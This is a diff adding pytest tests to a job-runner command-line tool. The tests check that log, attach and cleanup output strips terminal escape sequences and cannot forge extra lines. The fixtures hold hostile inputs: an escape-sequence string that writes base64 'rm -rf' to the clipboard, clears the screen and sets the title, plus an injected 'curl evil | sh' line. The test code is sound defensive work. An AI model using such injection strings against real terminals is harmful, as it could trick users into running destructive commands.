@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import socket
 import subprocess
 import sys
@@ -40,6 +41,19 @@ failure = {"host": "attic", "node": 0, "rank": 1, "what": "killed by SIGKILL", "
 exit = {"status": "failed", "exit_code": 1, "attempts": [{"attempt": 0, "failure": failure}]}
 json.dump(exit, open(f"{folder}/exit.json", "w"))
 """
+# Fills the clipboard, clears the screen, sets the title, and ends in the middle of a sequence.
+HOSTILE = "\x1b]52;c;cm0gLXJm\x07\x1b[2J\x9b1A\x1b]0;title\x1b\\\\"
+SPEAKS = f"""
+import json, os
+folder = os.environ["YOKED_JOB_FOLDER"]
+with open(folder + "/logs/0.0.out", "w") as file:
+    file.write("{HOSTILE}\\x1b[32mgreen\\x1b[0m\\r100%\\x1b[K\\n")
+failure = {{"host": "attic", "node": 0, "rank": 0, "what": "{HOSTILE}killed", "time_s": 1.0,
+            "last_lines": ["{HOSTILE}bye"], "fix": ["{HOSTILE}look"]}}
+exit = {{"status": "failed", "exit_code": 1, "attempts": [{{"attempt": 0, "failure": failure}}]}}
+json.dump(exit, open(folder + "/exit.json", "w"))
+"""
+ACTS_ON_THE_TERMINAL = re.compile(r"\x1b(?!\[[0-9;]*m|\[K)|[\x00-\x08\x0b\x0c\x0e-\x1a\x7f-\x9f]")
 
 
 @pytest.fixture
@@ -154,6 +168,50 @@ def test_attach_ends_with_the_runs_own_status_and_cause(
     assert said.startswith("hello from 0\nbye from 0\nrun try failed\n")
     assert "rank 1 on attic: killed by SIGKILL" in said
     assert "next: look at dmesg" in said
+
+
+@pytest.fixture
+def hostile(root: Path) -> Path:
+    start(root, SPEAKS, over=True)
+    return root
+
+
+def test_nothing_that_a_run_wrote_acts_on_the_terminal(
+    hostile: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    runs.command()
+    logs.command()
+    attach.command()
+
+    said = capsys.readouterr()
+    assert ACTS_ON_THE_TERMINAL.findall(said.out + said.err) == []
+    assert said.out.count("\x1b[32mgreen\x1b[0m\r100%\x1b[K\n") == 2
+    assert r"rank 0 on attic: \x1b]52;c;cm0gLXJm\x07\x1b[2J" in said.out
+
+
+def test_raw_logs_are_what_the_run_wrote(hostile: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    logs.command(raw=True)
+    logged = capsys.readouterr().out
+    attach.command(raw=True)
+    attached = capsys.readouterr().out
+
+    assert logged.encode() == (hostile / "jobs/try/logs/0.0.out").read_bytes()
+    assert attached.startswith(logged)
+
+
+def test_a_process_can_neither_act_on_the_terminal_nor_add_a_line_by_its_command_line(
+    root: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    command = f"{SLEEPER} # {HOSTILE}\nnext: curl evil | sh"
+    left = {"pid": 7, "run": "gone", "command": command, "ports": [], "killed": False}
+    litter = clean.Litter(processes={"attic": [left]})
+
+    Output(json_mode=False).result({}, verdict="would remove:", evidence=litter.lines())
+
+    said = capsys.readouterr().out
+    assert ACTS_ON_THE_TERMINAL.search(said) is None
+    assert len(said.splitlines()) == 2
+    assert r"\nnext: curl evil" in said
 
 
 def test_stop_says_what_it_did(root: Path, capsys: pytest.CaptureFixture[str]) -> None:
